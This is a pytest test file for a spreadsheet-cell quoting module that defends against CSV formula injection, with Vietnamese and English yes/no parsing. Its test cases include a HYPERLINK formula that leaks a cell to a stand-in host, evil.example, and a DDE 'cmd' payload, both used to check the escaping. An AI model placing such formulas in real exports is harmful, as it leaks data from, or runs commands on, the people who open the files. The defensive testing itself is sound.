"""chiso.io.cells: the one rule for text that a spreadsheet would run (OWASP, CSV injection),
by example, and as a CSV round trip through the writer and the reader."""

from __future__ import annotations

import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chiso.io.cells import quote, unquote, yes_no
from chiso.io.results import write_csv, write_xlsx
from chiso.io.tables import read_grid

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- Đã triển khai", "'- Đã triển khai"),
        ("'=1+1", "''=1+1"),  # quoted again, so that reading gives back the apostrophe
        # numbers and other text as they are
        ("-5", "-5"),
        ("-1,5", "-1,5"),
        ("+2", "+2"),
        ("-0.25", "-0.25"),
        ("Sở Y tế", "Sở Y tế"),
        ("45/60", "45/60"),
        ("'tên", "'tên"),
        ("=", "'="),
        ("", ""),
    ],
)
def test_quote(text: str, written: str) -> None:
    assert quote(text) == written
    assert unquote(written) == text


@pytest.mark.parametrize("value", [None, -5, 2.5, 0])
def test_quote_leaves_what_is_not_text(value: object) -> None:
    assert quote(value) == value


@given(st.text(alphabet="'=+-@\t\r1,.a "))
def test_unquote_gives_back_every_quoted_text(text: str) -> None:
    assert unquote(quote(text)) == text
    if quote(text).startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"[+-]\d+(?:[.,]\d+)?", text)  # only a number starts so


@pytest.mark.parametrize(
    ("value", "data_type", "prefixed"),
    [
        ("=1+1", "s", True),
        ("-Sở Trừ", "s", True),
        ("#N/A", "s", False),
        ("Sở Y tế", "s", False),
        ("-5", "s", False),
        (-5, "n", False),
        (Decimal("-1.5"), "n", False),
    ],
)
def test_xlsx_cell(tmp_path: Path, value: object, data_type: str, prefixed: bool) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx([{"value": value}], path)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == (data_type, prefixed)
    assert cell.value == (float(value) if isinstance(value, Decimal) else value)


def test_csv_and_xlsx_read_back_as_written(tmp_path: Path) -> None:
    rows = [{"unit": "=1+1", "block": "-so", "note": "'@x", "score": "-1.5"}]
    csv_file = tmp_path / "out.csv"
    csv_file.write_text(write_csv(rows), encoding="utf-8")
    xlsx_file = tmp_path / "out.xlsx"
    write_xlsx(rows, xlsx_file)
    for path in (csv_file, xlsx_file):
        assert read_grid(path).rows == [(2, ["=1+1", "-so", "'@x", "-1.5"])], path.name


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("Có", True),
        (" CÓ ", True),
        ("co\u0301", True),  # the accent typed as a combining mark
        ("Yes", True),
        ("x", True),
        ("1", True),
        ("TRUE", True),
        ("Không", False),
        ("KHÔNG", False),
        ("no", False),
        ("0", False),
        ("False", False),
        ("", None),
        ("có lẽ", None),
        ("2", None),
    ],
)
def test_yes_no_reads_either_language(text: str, read: bool | None) -> None:
    assert yes_no(text) is read


def test_yes_no_reads_the_labels_of_every_language_of_the_site() -> None:
    """The self-assessment workbook writes the labels of the site's language and reads either."""
    import django
    from django.conf import settings

    if not settings.configured:
        pytest.skip("Django settings are not configured")
    django.setup()
    from django.utils import translation

    for code, _name in settings.LANGUAGES:
        with translation.override(code):
            assert yes_no(translation.gettext("Yes")) is True, code
            assert yes_no(translation.gettext("No")) is False, code
